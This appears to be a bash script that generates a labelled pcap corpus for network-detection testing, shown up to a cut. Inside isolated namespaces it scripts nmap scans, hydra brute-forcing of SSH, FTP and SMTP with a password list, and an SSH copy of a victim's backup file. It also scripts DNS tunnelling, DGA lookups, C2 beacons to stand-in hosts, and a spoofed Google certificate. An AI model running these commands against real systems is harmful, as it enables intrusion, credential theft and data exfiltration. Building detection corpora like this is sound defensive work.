#!/usr/bin/env bash
# make-corpus.sh - regenerate the labelled pcap corpus in testdata/corpus/.
#
# Run as root.  Everything happens inside network namespaces named slc-*
# that this script creates and connects only to each other (a switch
# namespace slc-sw holding two Linux bridges, a router namespace slc-rtr,
# and one namespace per host).  No namespace has a link to the host or to
# the outside; every target given to a tool is one of these hosts.
#
#   sudo scripts/corpus/make-corpus.sh            # all scenarios
#   ONLY="dga ti-ioc" scripts/corpus/make-corpus.sh   # just some
#
# Namespaces, processes and the temp dir are removed on exit (trap).
set -euo pipefail

[[ $EUID -eq 0 ]] || { echo "make-corpus.sh: must run as root" >&2; exit 1; }

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
REPO=$(cd "$HERE/../.." && pwd)
OUT=$REPO/testdata/corpus
PY=/usr/bin/python3
ONLY=${ONLY:-}
export LC_ALL=C

log() { printf '[corpus %s] %s\n' "$(date +%T)" "$*" >&2; }

# --------------------------------------------------------------- tools
ensure_tools() {
  local -A need=(
    [tcpdump]=tcpdump [tshark]=tshark [capinfos]=tshark [nmap]=nmap
    [hydra]=hydra [sshd]=openssh-server [ssh]=openssh-client
    [sshpass]=sshpass [dnsmasq]=dnsmasq-base [dig]=bind9-dnsutils
    [iodine]=iodine [iodined]=iodine [ifconfig]=net-tools
    [arp-scan]=arp-scan [dhclient]=isc-dhcp-client [nc]=netcat-openbsd
    [chronyd]=chrony [vsftpd]=vsftpd [openssl]=openssl [curl]=curl
    [unshare]=util-linux [python3]=python3
  )
  local missing=() c
  for c in "${!need[@]}"; do
    if [[ $c == python3 ]]; then [[ -x $PY ]] && continue
    else command -v "$c" >/dev/null 2>&1 && continue
      [[ -x /usr/sbin/$c ]] && continue
    fi
    missing+=("${need[$c]}")
  done
  if ((${#missing[@]})); then
    mapfile -t missing < <(printf '%s\n' "${missing[@]}" | sort -u)
    log "installing: ${missing[*]}"
    apt-get update -qq
    # policy-rc.d in this image already prevents services from starting;
    # none of these packages' own daemons are used (we run our own copies
    # inside namespaces with private config files).
    DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends \
      "${missing[@]}" >/dev/null
  fi
}

# -------------------------------------------------------------- cleanup
T=""
PIDS=()
kill_ns_all() {
  local ns p
  for ns in $(ip netns list 2>/dev/null | awk '{print $1}' | grep '^slc-' || true); do
    for p in $(ip netns pids "$ns" 2>/dev/null || true); do
      kill -TERM "$p" 2>/dev/null || true
    done
  done
  sleep 0.5
  for ns in $(ip netns list 2>/dev/null | awk '{print $1}' | grep '^slc-' || true); do
    for p in $(ip netns pids "$ns" 2>/dev/null || true); do
      kill -KILL "$p" 2>/dev/null || true
    done
    ip netns del "$ns" 2>/dev/null || true
  done
}
cleanup() {
  local rc=$?
  set +e
  local p
  for p in "${PIDS[@]}"; do kill -TERM "$p" 2>/dev/null; done
  kill_ns_all
  [[ -n $T && -d $T && ${KEEP_TMP:-0} != 1 ]] && rm -rf "$T"
  [[ -n $T && ${KEEP_TMP:-0} == 1 ]] && log "kept $T"
  exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# ------------------------------------------------------------- topology
# Commands run inside a host namespace.  nscmd prints nothing; it fills the
# array CMD so that a background job's $! is the real process (not a
# subshell running a bash function).
#   ns HOST cmd...    plain
#   nsx HOST cmd...   with /etc/resolv.conf -> corpus resolver (private
#                     mount namespace; nothing changes on the host)
#   vicx cmd...       victim host with a private passwd/shadow/group that
#                     holds the test user, and a private /run (sshd privsep)
NSX_SH='mount --bind "$0" /etc/resolv.conf && exec "$@"'
VIC_SH='mount --bind "$0/etc/passwd" /etc/passwd &&
  mount --bind "$0/etc/shadow" /etc/shadow &&
  mount --bind "$0/etc/group" /etc/group &&
  mount -t tmpfs -o mode=755 slc-run /run && mkdir -m 755 /run/sshd &&
  exec "$@"'
nscmd() {
  local kind=$1; shift
  case $kind in
    ns) CMD=(ip netns exec "slc-$1" "${@:2}") ;;
    nsx) CMD=(ip netns exec "slc-$1" unshare -m --propagation private sh -c "$NSX_SH" "$T/resolv.conf" "${@:2}") ;;
    vicx) CMD=(ip netns exec slc-vic unshare -m --propagation private sh -c "$VIC_SH" "$T/vic" "$@") ;;
    *) CMD=("$kind" "$@") ;;
  esac
}
ns() { nscmd ns "$@"; "${CMD[@]}"; }
nsx() { nscmd nsx "$@"; "${CMD[@]}"; }
vicx() { nscmd vicx "$@"; "${CMD[@]}"; }
bgrun() { # bgrun NAME ns|nsx|vicx ... (background, logged, pid remembered)
  local name=$1; shift
  nscmd "$@"
  "${CMD[@]}" >"$T/log/$name.log" 2>&1 &
  PIDS+=($!)
}
ip2mac() { # 10.77.0.10 -> 02:77:0a:4d:00:0a
  local IFS=.; set -- $1
  printf '02:77:%02x:%02x:%02x:%02x' "$1" "$2" "$3" "$4"
}
ns_base() { # create namespace with lo up, no IPv6, no ICMP rate limit
  ip netns add "slc-$1"
  ns "$1" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ns "$1" sysctl -qw net.ipv4.icmp_ratelimit=0
  ip -n "slc-$1" link set lo up
}
attach() { # attach NAME IFNAME BRIDGE MAC
  local n=$1 ifn=$2 br=$3 mac=$4 port="p-$1${2#eth}"
  ip -n "slc-$n" link add "$ifn" type veth peer name "$port" netns slc-sw
  ip -n "slc-$n" link set "$ifn" address "$mac"
  ip -n slc-sw link set "$port" master "$br" up
  ip -n "slc-$n" link set "$ifn" up
}
LAN_ROUTES="10.77.1.0/24 203.0.113.0/24 198.51.100.0/24 192.0.2.0/24"
OUT_NETS="10.77.0.0/24 10.77.1.0/24 203.0.113.0/24 198.51.100.0/24 192.0.2.0/24"
lan_host() { # lan_host NAME IP|none [MAC]
  local n=$1 ip=$2 mac=${3:-}
  [[ -z $mac ]] && mac=$(ip2mac "$ip")
  ns_base "$n"
  attach "$n" eth0 br0 "$mac"
  [[ $ip == none ]] && return 0
  ip -n "slc-$n" addr add "$ip/24" dev eth0
  local r; for r in $LAN_ROUTES; do ip -n "slc-$n" route add "$r" via 10.77.0.1; done
  ip -n "slc-$n" route add 224.0.0.0/4 dev eth0
}
out_host() { # out_host NAME IP   (behind the router, on br1)
  local n=$1 ip=$2 gw net r
  gw=${ip%.*}.1; net=${ip%.*}.0/24
  ns_base "$n"
  attach "$n" eth0 br1 "$(ip2mac "$ip")"
  ip -n "slc-$n" addr add "$ip/24" dev eth0
  for r in $OUT_NETS; do [[ $r == "$net" ]] || ip -n "slc-$n" route add "$r" via "$gw"; done
}

# addressing plan (see testdata/corpus/README.md)
LAN_HOSTS=(dns:10.77.0.2 dhcp:10.77.0.3 atk:10.77.0.10 vic:10.77.0.20
  iot:10.77.0.40 cli:10.77.0.70 bot:10.77.0.80 tv:10.77.0.90 prn:10.77.0.91)
OUT_HOSTS=(h0:10.77.1.10 h1:10.77.1.11 h2:10.77.1.12 h3:10.77.1.13
  h4:10.77.1.14 h5:10.77.1.15 h6:10.77.1.16 h7:10.77.1.17 h8:10.77.1.18
  h9:10.77.1.19
  beacon:198.51.100.10 news:198.51.100.30 shop:198.51.100.31
  mirror:198.51.100.80 vpn:198.51.100.94
  fake:203.0.113.20 cam:203.0.113.23 tlsb:203.0.113.30 cloud:203.0.113.44
  c2:203.0.113.66
  cdn:192.0.2.30 tund:192.0.2.53 c2d:192.0.2.66 ntp:192.0.2.123)
DHCPC_MAC=02:77:00:00:00:c8
DHCPC_IP=10.77.0.150

build_topology() {
  log "building namespaces"
  ns_base sw
  local br
  for br in br0 br1; do
    ip -n slc-sw link add "$br" type bridge stp_state 0 forward_delay 0 mcast_snooping 0
  done
  ip -n slc-sw link set br0 address 02:77:ff:00:00:00 up
  ip -n slc-sw link set br1 address 02:77:ff:00:00:01 up
  # router
  ns_base rtr
  ns rtr sysctl -qw net.ipv4.ip_forward=1
  attach rtr eth0 br0 "$(ip2mac 10.77.0.1)"
  attach rtr eth1 br1 "$(ip2mac 10.77.1.1)"
  ip -n slc-rtr addr add 10.77.0.1/24 dev eth0
  local a
  for a in 10.77.1.1 203.0.113.1 198.51.100.1 192.0.2.1; do
    ip -n slc-rtr addr add "$a/24" dev eth1
  done
  local h
  for h in "${LAN_HOSTS[@]}"; do lan_host "${h%%:*}" "${h#*:}"; done
  lan_host dhcpc none "$DHCPC_MAC"
  for h in "${OUT_HOSTS[@]}"; do out_host "${h%%:*}" "${h#*:}"; done
}

# ---------------------------------------------------------------- data
make_data() {
  log "generating keys, certificates and content"
  mkdir -p "$T"/{log,cap,pki,www,vic/etc,vic/home/victim/.ssh,ssh,lists}
  printf 'nameserver 10.77.0.2\noptions timeout:2 attempts:1\n' >"$T/resolv.conf"

  # --- PKI: a private CA for the benign servers, self-signed for the bad ones
  local P=$T/pki
  openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -keyout "$P/ca.key" \
    -out "$P/ca.pem" -subj "/C=NL/O=Corpus Example Trust/CN=Corpus Example Root CA" 2>/dev/null
  local name
  for name in www.news.example shop.example static.cdn.example sync.cloud.example; do
    openssl req -newkey rsa:2048 -nodes -keyout "$P/$name.key" -out "$P/$name.csr" \
      -subj "/C=NL/O=Example Services/CN=$name" 2>/dev/null
    printf 'subjectAltName=DNS:%s\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n' \
      "$name" >"$P/$name.ext"
    openssl x509 -req -in "$P/$name.csr" -CA "$P/ca.pem" -CAkey "$P/ca.key" \
      -CAcreateserial -days 825 -extfile "$P/$name.ext" -out "$P/$name.pem" 2>/dev/null
  done
  openssl req -x509 -newkey rsa:2048 -nodes -days 365 -keyout "$P/google.key" -out "$P/google.pem" \
    -subj "/C=US/O=Google LLC/CN=www.google.com" -addext "subjectAltName=DNS:www.google.com" 2>/dev/null
  openssl req -x509 -newkey rsa:2048 -nodes -days 365 -keyout "$P/beacon.key" -out "$P/beacon.pem" \
    -subj "/CN=telemetry.beacon.example" -addext "subjectAltName=DNS:telemetry.beacon.example" 2>/dev/null

  # --- web content
  local W=$T/www
  mkdir -p "$W"/{victim,beacon,news/css,news/js,news/img,shop/img,cdn/lib,cdn/fonts,mirror,c2,c2d/panel,fake}
  echo '<html><body><h1>It works!</h1></body></html>' >"$W/victim/index.html"
  echo '{"status":"ok","next":300,"version":"4.2.1"}' >"$W/beacon/check.txt"
  "$PY" - "$W" <<'EOF'
import os, random, sys
w = sys.argv[1]
rng = random.Random(77)
def text(n):
    words = "lorem ipsum dolor sit amet news market city weather sport report update".split()
    return " ".join(rng.choice(words) for _ in range(n // 6))[:n]
def put(path, data):
    p = os.path.join(w, path)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    open(p, "wb").write(data if isinstance(data, bytes) else data.encode())
def blob(n):
    return bytes(rng.getrandbits(8) for _ in range(n))
for i, page in enumerate(["index.html", "world.html", "sport.html", "tech.html"]):
    put("news/" + page, "<html><head><title>News %d</title></head><body>%s</body></html>" % (i, text(6000)))
put("news/css/site.css", "body{font-family:sans-serif}\n" * 150)
put("news/js/app.js", "function f(){return 1}\n" * 700)
for i in range(6):
    put("news/img/photo%d.jpg" % i, b"\xff\xd8\xff\xe0" + blob(9000 + 2000 * i))
put("shop/index.html", "<html><body>%s</body></html>" % text(5000))
put("shop/cart.html", "<html><body>%s</body></html>" % text(3000))
for i in range(4):
    put("shop/img/item%d.png" % i, b"\x89PNG" + blob(7000 + 1500 * i))
put("cdn/lib/jquery.min.js", "(function(){var a=1;})();\n" * 1200)
put("cdn/fonts/roboto.woff2", b"wOF2" + blob(16000))
# apt mirror
put("mirror/debian/dists/bookworm/InRelease", "Origin: Debian\nSuite: stable\n" + text(14000))
put("mirror/debian/dists/bookworm/main/binary-amd64/Packages.xz", b"\xfd7zXZ" + blob(60000))
for n, sz in (("libfoo1_1.2-3_amd64.deb", 290000), ("foo-utils_1.2-3_amd64.deb", 260000),
              ("python3-bar_0.9-1_all.deb", 240000)):
    put("mirror/debian/pool/main/f/foo/" + n, b"!<arch>\n" + blob(sz))
put("c2/gate.php", "OK:sleep=60")
put("c2d/panel/config.bin", blob(2048))
put("fake/index.html", "<html><head><title>Google</title></head><body>Sign in</body></html>")
EOF

  # --- the victim's private user database and home
  local V=$T/vic PW=Spring2024!
  VIC_PW=$PW
  cp /etc/passwd "$V/etc/passwd"; cp /etc/shadow "$V/etc/shadow"; cp /etc/group "$V/etc/group"
  echo "victim:x:47701:47701:Corpus Victim:$V/home/victim:/bin/bash" >>"$V/etc/passwd"
  echo "victim:$(openssl passwd -6 -salt c0rpusS4lt "$PW"):19700:0:99999:7:::" >>"$V/etc/shadow"
  echo "victim:x:47701:" >>"$V/etc/group"
  chmod 644 "$V/etc/passwd" "$V/etc/group"; chmod 640 "$V/etc/shadow"
  head -c 300000 /dev/urandom >"$V/home/victim/backup.tar.gz"
  ssh-keygen -q -t ed25519 -N '' -C 'alice@laptop' -f "$T/ssh/client_key"
  cp "$T/ssh/client_key.pub" "$V/home/victim/.ssh/authorized_keys"
  chown -R 47701:47701 "$V/home/victim"
  chmod 755 "$T" "$V" "$V/home"
  head -c 200000 /dev/urandom >"$T/upload.bin"
  ssh-keygen -q -t ed25519 -N '' -f "$T/ssh/host_ed25519"
  ssh-keygen -q -t rsa -b 3072 -N '' -f "$T/ssh/host_rsa"
  cat >"$T/ssh/sshd_config" <<EOF
ListenAddress 10.77.0.20
Port 22
HostKey $T/ssh/host_ed25519
HostKey $T/ssh/host_rsa
PidFile $T/sshd.pid
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication yes
PermitRootLogin no
AllowUsers victim
StrictModes no
MaxAuthTries 6
MaxStartups 60:30:120
LoginGraceTime 30
UseDNS no
PrintMotd no
Subsystem sftp internal-sftp
EOF
  # --- FTP server (vsftpd)
  mkdir -p "$T/vsftpd-empty"
  cat >"$T/vsftpd.conf" <<EOF
listen=YES
listen_ipv6=NO
listen_address=10.77.0.20
background=NO
anonymous_enable=NO
local_enable=YES
write_enable=NO
pam_service_name=vsftpd
secure_chroot_dir=$T/vsftpd-empty
seccomp_sandbox=NO
xferlog_enable=NO
vsftpd_log_file=$T/log/vsftpd-xfer.log
max_per_ip=20
max_clients=50
ftpd_banner=(vsFTPd 3.0.3)
EOF

  # --- password lists (45 / 30 / 20 wrong guesses, right one last for ssh+smtp)
  local L=$T/lists
  cat >"$L/common.txt" <<'EOF'
123456
password
12345678
qwerty
123456789
12345
1234
111111
1234567
dragon
123123
baseball
abc123
football
monkey
letmein
696969
shadow
master
666666
qwertyuiop
123321
mustang
1234567890
michael
654321
superman
1qaz2wsx
7777777
121212
000000
qazwsx
123qwe
killer
trustno1
jordan
jennifer
zxcvbnm
asdfgh
hunter
buster
soccer
harley
batman
andrew
EOF
  cp "$L/common.txt" "$L/ssh.txt"; echo "$PW" >>"$L/ssh.txt"
  head -n 30 "$L/common.txt" >"$L/ftp.txt"
  head -n 20 "$L/common.txt" >"$L/smtp.txt"; echo "$PW" >>"$L/smtp.txt"

  # --- DNS data: DGA names and high-entropy TXT blobs (deterministic)
  "$PY" - "$T" <<'EOF'
import base64, random, sys
t = sys.argv[1]
r = random.Random(20240601)
tlds = ["com", "net", "org", "info", "biz", "ru"]
al = "abcdefghijklmnopqrstuvwxyz0123456789"
with open(t + "/dga.txt", "w") as f:
    for i in range(60):
        n = r.randint(10, 16)
        f.write("".join(r.choice(al[:26] if j == 0 else al) for j in range(n)) + "." + tlds[i % 6] + "\n")
with open(t + "/txt.conf", "w") as f:
    for i in range(8):
        b = base64.b64encode(bytes(r.getrandbits(8) for _ in range(150))).decode()
        f.write('txt-record=k%d.cfg.sync-update.example,"%s"\n' % (i, b))
EOF

  # --- dnsmasq: LAN resolver, authoritative for the corpus names only
  cat >"$T/dnsmasq-dns.conf" <<EOF
no-resolv
no-hosts
no-poll
keep-in-foreground
bind-interfaces
listen-address=10.77.0.2
except-interface=lo
port=53
user=root
pid-file=$T/dnsmasq-dns.pid
log-queries
log-facility=$T/log/dnsmasq-dns.queries
# every name we do not know is answered NXDOMAIN
local=/#/
server=/t.tunnel.example/192.0.2.53
host-record=update-check.example,198.51.100.10
host-record=www.news.example,198.51.100.30,2001:db8:100::30
host-record=shop.example,198.51.100.31
host-record=static.cdn.example,192.0.2.30
host-record=deb.mirror.example,198.51.100.80
host-record=vpn.corp.example,198.51.100.94
host-record=telemetry.beacon.example,203.0.113.30
host-record=sync.cloud.example,203.0.113.44
host-record=evil-c2.example,192.0.2.66
host-record=ntp.corp.example,192.0.2.123
host-record=mail.corp.example,10.77.0.20
mx-host=corp.example,mail.corp.example,10
conf-file=$T/txt.conf
EOF
  cat >"$T/dnsmasq-dhcp.conf" <<EOF
port=0
no-resolv
no-hosts
keep-in-foreground
bind-interfaces
interface=eth0
except-interface=lo
user=root
pid-file=$T/dnsmasq-dhcp.pid
dhcp-range=10.77.0.150,10.77.0.199,255.255.255.0,1h
dhcp-host=$DHCPC_MAC,$DHCPC_IP
dhcp-option=option:router,10.77.0.1
dhcp-option=option:dns-server,10.77.0.2
dhcp-authoritative
dhcp-leasefile=$T/dnsmasq.leases
log-dhcp
log-facility=$T/log/dnsmasq-dhcp.events
EOF
  cat >"$T/dhclient.conf" <<'EOF'
send host-name "slc-laptop";
request subnet-mask, broadcast-address, routers, domain-name-servers;
timeout 20;
EOF
  cat >"$T/dhclient-script" <<'EOF'
#!/bin/sh
case "$reason" in
  PREINIT) ip link set dev "$interface" up ;;
  BOUND|RENEW|REBIND|REBOOT)
    ip addr flush dev "$interface"
    ip addr add "$new_ip_address/24" dev "$interface" ;;
esac
exit 0
EOF
  chmod 755 "$T/dhclient-script"
  mkdir -p "$T/chrony"; chown _chrony "$T/chrony" 2>/dev/null || true
  cat >"$T/chrony-server.conf" <<EOF
bindaddress 192.0.2.123
port 123
cmdport 0
local stratum 3
allow all
pidfile $T/chrony/chronyd.pid
EOF
}

# ------------------------------------------------------------- services
wait_port() { # wait_port HOST PROTO IP PORT
  local i
  for i in $(seq 1 50); do
    ns "$1" ss -Hln"${2:0:1}" 2>/dev/null | grep -q "$3:$4 " && return 0
    sleep 0.2
  done
  log "WARNING: $1 $2 $3:$4 did not come up"; return 1
}
start_services() {
  log "starting servers"
  bgrun dnsmasq-dns ns dns dnsmasq -C "$T/dnsmasq-dns.conf"
  bgrun dnsmasq-dhcp ns dhcp dnsmasq -C "$T/dnsmasq-dhcp.conf"
  # victim 10.77.0.20: sshd 22, vsftpd 21, SMTP 25, HTTP 80
  bgrun sshd vicx /usr/sbin/sshd -D -e -f "$T/ssh/sshd_config"
  bgrun vsftpd vicx /usr/sbin/vsftpd "$T/vsftpd.conf"
  bgrun smtpd vicx "$PY" "$HERE/smtpd.py" 10.77.0.20 25 victim@corp.example "$VIC_PW"
  bgrun vic-http ns vic "$PY" "$HERE/webserver.py" --bind 10.77.0.20 --port 80 --dir "$T/www/victim" --server-header "Apache/2.4.57 (Debian)"
  # internal hosts: three with SMB (445) open
  local h
  for h in h0 h3 h7; do
    bgrun "smb-$h" ns "$h" nc -lk "10.77.1.1${h#h}" 445
  done
  bgrun cam-telnet ns cam nc -lk 203.0.113.23 23
  local W=$T/www P=$T/pki
  bgrun beacon-http ns beacon "$PY" "$HERE/webserver.py" --bind 198.51.100.10 --port 80 --dir "$W/beacon"
  bgrun news-https ns news "$PY" "$HERE/webserver.py" --bind 198.51.100.30 --port 443 --dir "$W/news" --cert "$P/www.news.example.pem" --key "$P/www.news.example.key"
  bgrun news-http ns news "$PY" "$HERE/webserver.py" --bind 198.51.100.30 --port 80 --dir "$W/news"
  bgrun shop-https ns shop "$PY" "$HERE/webserver.py" --bind 198.51.100.31 --port 443 --dir "$W/shop" --cert "$P/shop.example.pem" --key "$P/shop.example.key" --tls max12
  bgrun cdn-https ns cdn "$PY" "$HERE/webserver.py" --bind 192.0.2.30 --port 443 --dir "$W/cdn" --cert "$P/static.cdn.example.pem" --key "$P/static.cdn.example.key" --tls max12 --server-header cloudflare
  bgrun mirror-http ns mirror "$PY" "$HERE/webserver.py" --bind 198.51.100.80 --port 80 --dir "$W/mirror" --server-header "Apache/2.4.57 (Debian)"
  bgrun vpn ns vpn "$PY" "$HERE/vpn.py" server 198.51.100.94
  bgrun cloud ns cloud "$PY" "$HERE/tlsecho.py" 203.0.113.44 443 "$P/sync.cloud.example.pem" "$P/sync.cloud.example.key"
  bgrun c2-http ns c2 "$PY" "$HERE/webserver.py" --bind 203.0.113.66 --port 80 --dir "$W/c2"
  bgrun c2d-http ns c2d "$PY" "$HERE/webserver.py" --bind 192.0.2.66 --port 80 --dir "$W/c2d"
  bgrun fake-http ns fake "$PY" "$HERE/webserver.py" --bind 203.0.113.20 --port 80 --dir "$W/fake" --server-header gws
  # openssl s_server keeps reading stdin: give it a pipe that never ends
  bgrun fake-tls ns fake sh -c "sleep 100000 | exec openssl s_server -accept 203.0.113.20:443 -www -no_tls1_3 -cert '$P/google.pem' -key '$P/google.key'"
  bgrun tlsb-tls ns tlsb sh -c "sleep 100000 | exec openssl s_server -accept 203.0.113.30:443 -www -no_tls1_3 -cert '$P/beacon.pem' -key '$P/beacon.key'"
  bgrun iodined ns tund iodined -f -c -P corpus-tun-pw -l 192.0.2.53 -p 53 10.99.0.1/27 t.tunnel.example
  bgrun chronyd-server ns ntp chronyd -d -x -f "$T/chrony-server.conf"
  bgrun ssdp-tv ns tv "$PY" "$HERE/ssdp.py" respond 10.77.0.90 SamsungTV
  bgrun ssdp-prn ns prn "$PY" "$HERE/ssdp.py" respond 10.77.0.91 HP-LaserJet
  wait_port dns udp 10.77.0.2 53 || true
  wait_port vic tcp 10.77.0.20 22 || true
  wait_port vic tcp 10.77.0.20 21 || true
  wait_port vic tcp 10.77.0.20 25 || true
  wait_port fake tcp 203.0.113.20 443 || true
  wait_port tlsb tcp 203.0.113.30 443 || true
  wait_port tund udp 192.0.2.53 53 || true
  wait_port ntp udp 192.0.2.123 123 || true
  wait_port cloud tcp 203.0.113.44 443 || true
  sleep 1
}

# ------------------------------------------------------------- captures
CAP_PID=""; CAP_NAME=""
cap_start() { # cap_start NAME HOST IFACE
  CAP_NAME=$1
  rm -f "$T/cap/$1.pcap"
  ip netns exec "slc-$2" tcpdump -i "$3" -s 0 -U -n -Z root -w "$T/cap/$1.pcap" >"$T/log/tcpdump-$1.log" 2>&1 &
  CAP_PID=$!
  local i
  for i in $(seq 1 50); do grep -q 'listening on' "$T/log/tcpdump-$1.log" && break; sleep 0.1; done
  sleep 0.5
  log "capture $1 started"
}
cap_stop() {
  sleep 1.5
  kill -INT "$CAP_PID" 2>/dev/null || true
  wait "$CAP_PID" 2>/dev/null || true
  cp "$T/cap/$CAP_NAME.pcap" "$OUT/$CAP_NAME.pcap"
  chmod 644 "$OUT/$CAP_NAME.pcap"
  log "capture $CAP_NAME done: $(stat -c %s "$OUT/$CAP_NAME.pcap") bytes, $(tail -n 3 "$T/log/tcpdump-$CAP_NAME.log" | grep -o '^[0-9]* packets captured' || true)"
}
SSHOPTS=(-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null
  -o GlobalKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=10)
q() { "$@" >>"$T/log/$CAP_NAME.out" 2>&1 || log "note: '$*' exited $?"; }

# ------------------------------------------------------------ scenarios
s_nmap_syn_vertical() {
  cap_start nmap-syn-vertical atk eth0
  q ns atk timeout 120 nmap -n -sS -p 1-1000 -T4 --max-retries 1 10.77.0.20
  cap_stop
}
s_nmap_udp() {
  cap_start nmap-udp atk eth0
  q ns atk timeout 120 nmap -n -sU --top-ports 100 -T4 --max-retries 1 10.77.0.20
  cap_stop
}
s_horizontal_scan() {
  cap_start horizontal-scan atk eth0
  q ns atk timeout 120 nmap -n -Pn -sS -p 445 -T4 --max-retries 1 10.77.1.0/26
  cap_stop
}
s_icmp_sweep() {
  cap_start icmp-sweep atk eth0
  q ns atk timeout 120 nmap -n -sn -PE 10.77.1.0/27
  sleep 2
  q ns atk timeout 120 nmap -n -sU -p 53,67,69,111,123,137,161,500,514,1900,5353,11211 --max-retries 1 10.77.1.10
  cap_stop
}
s_ssh_bruteforce() {
  cap_start ssh-bruteforce atk eth0
  (cd "$T" && q ns atk timeout 180 hydra -I -f -t 4 -l victim -P "$T/lists/ssh.txt" ssh://10.77.0.20)
  sleep 2
  ns atk timeout 60 sshpass -p "$VIC_PW" ssh "${SSHOPTS[@]}" victim@10.77.0.20 'id >&2; cat backup.tar.gz' \
    2>>"$T/log/$CAP_NAME.out" | wc -c >>"$T/log/$CAP_NAME.out" || log "note: sshpass login failed"
  cap_stop
}
s_ftp_bruteforce() {
  cap_start ftp-bruteforce atk eth0
  (cd "$T" && q ns atk timeout 180 hydra -I -t 4 -l victim -P "$T/lists/ftp.txt" ftp://10.77.0.20)
  cap_stop
}
s_smtp_bruteforce() {
  cap_start smtp-bruteforce atk eth0
  (cd "$T" && q ns atk timeout 180 hydra -I -f -t 2 -l victim@corp.example -P "$T/lists/smtp.txt" smtp://10.77.0.20)
  cap_stop
}
s_telnet_scan() {
  cap_start telnet-scan iot eth0
  q ns iot timeout 120 nmap -n -Pn -sS -p 23,2323 -T4 --max-retries 0 203.0.113.1-50
  sleep 1
  # Mirai-like bot keeps re-trying one host whose port is closed (RST each time)
  local i
  for i in $(seq 1 8); do q ns iot timeout 5 nc -z -w 2 203.0.113.20 2323; sleep 1; done
  cap_stop
}
s_dga() {
  cap_start dga bot eth0
  local n
  while read -r n; do
    q ns bot dig +tries=1 +time=2 @10.77.0.2 "$n" A
    sleep 0.25
  done <"$T/dga.txt"
  cap_stop
}
s_dns_tunnel() {
  cap_start dns-tunnel bot eth0
  bgrun iodine-client ns bot iodine -f -r -P corpus-tun-pw 10.77.0.2 t.tunnel.example
  local ipid=${PIDS[-1]} i ok=0
  for i in $(seq 1 60); do
    ns bot ip -4 addr show dev dns0 2>/dev/null | grep -q 10.99.0 && { ok=1; break; }
    sleep 0.5
  done
  if ((ok)); then
    sleep 1
    bgrun tun-sink ns tund timeout 120 nc -l 10.99.0.1 5001
    local spid=${PIDS[-1]}
    sleep 1
    q ns bot timeout 120 sh -c "head -c 100000 /dev/urandom | nc -N -w 10 10.99.0.1 5001"
    kill "$spid" 2>/dev/null || true
  else
    log "WARNING: iodine tunnel did not come up"
  fi
  kill "$ipid" 2>/dev/null || true
  wait "$ipid" 2>/dev/null || true
  cap_stop
}
s_txt_entropy() {
  cap_start txt-entropy bot eth0
  local i
  for i in $(seq 0 7); do
    q ns bot dig +tries=1 +time=2 @10.77.0.2 "k$i.cfg.sync-update.example" TXT
    sleep 1
  done
  cap_stop
}
s_http_beacon() {
  cap_start http-beacon bot eth0
  local i
  for i in $(seq 1 36); do
    q nsx bot curl -s -m 4 -o /dev/null -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' \
      "http://update-check.example/check.txt?id=8f3a2c91&seq=$i"
    sleep 5
  done
  cap_stop
}
s_https_beacon() {
  cap_start https-beacon bot eth0
  local i
  for i in $(seq 1 22); do
    q nsx bot curl -sk -m 4 -o /dev/null --tls-max 1.2 https://telemetry.beacon.example/
    sleep 3
  done
  cap_stop
}
s_ti_ioc() {
  cap_start ti-ioc bot eth0
  local i
  for i in 1 2 3; do
    q ns bot curl -s -m 4 -o /dev/null -A 'Mozilla/4.0 (compatible; MSIE 7.0)' "http://203.0.113.66/gate.php?bot=a91f&i=$i"
    sleep 2
  done
  q ns bot dig +tries=1 +time=2 @10.77.0.2 evil-c2.example A
  for i in 1 2; do
    q nsx bot curl -s -m 4 -o /dev/null http://evil-c2.example/panel/config.bin
    sleep 2
  done
  cap_stop
}
s_fake_cert() {
  cap_start fake-cert bot eth0
  local i
  for i in 1 2 3 4; do
    q ns bot curl -sk -m 4 -o /dev/null --resolve www.google.com:443:203.0.113.20 https://www.google.com/
    sleep 1.5
  done
  for i in 1 2 3; do
    q ns bot curl -s -m 4 -o /dev/null -H 'Host: www.google.com' http://203.0.113.20/index.html
    sleep 1
  done
  cap_stop
}
s_arp_scan() {
  cap_start arp-scan sw br0
  q ns atk timeout 60 arp-scan -I eth0 --retry=2 10.77.0.0/24
  cap_stop
}
s_dhcp_scan() {
  cap_start dhcp-scan sw br0
  rm -f "$T/dhclient.leases"
  bgrun dhclient ns dhcpc dhclient -4 -d -1 -v -cf "$T/dhclient.conf" -sf "$T/dhclient-script" \
    -lf "$T/dhclient.leases" -pf "$T/dhclient.pid" eth0
  local dpid=${PIDS[-1]} i
  for i in $(seq 1 40); do
    ns dhcpc ip -4 addr show dev eth0 | grep -q "$DHCPC_IP" && break
    sleep 0.5
  done
  kill "$dpid" 2>/dev/null || true; wait "$dpid" 2>/dev/null || true
  ns dhcpc ip -4 addr show dev eth0 | grep -q "$DHCPC_IP" || ns dhcpc ip addr add "$DHCPC_IP/24" dev eth0
  sleep 1
  q ns dhcpc timeout 60 "$PY" "$HERE/dhcpreq.py" "$DHCPC_IP" 10.77.0.3 "$DHCPC_MAC" 10.77.0.160 12
  cap_stop
}
s_benign_browsing() {
  cap_start benign-browsing cli eth0
  local CA=$T/pki/ca.pem n=https://www.news.example c=https://static.cdn.example s=https://shop.example
  local UA='Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0'
  q nsx cli curl -s -m 10 -A "$UA" --cacert "$CA" -o /dev/null -o /dev/null -o /dev/null -o /dev/null -o /dev/null \
    $n/index.html $n/css/site.css $n/js/app.js $n/img/photo0.jpg $n/img/photo1.jpg
  q nsx cli curl -s -m 10 -A "$UA" --cacert "$CA" -o /dev/null -o /dev/null $c/lib/jquery.min.js $c/fonts/roboto.woff2
  sleep 6
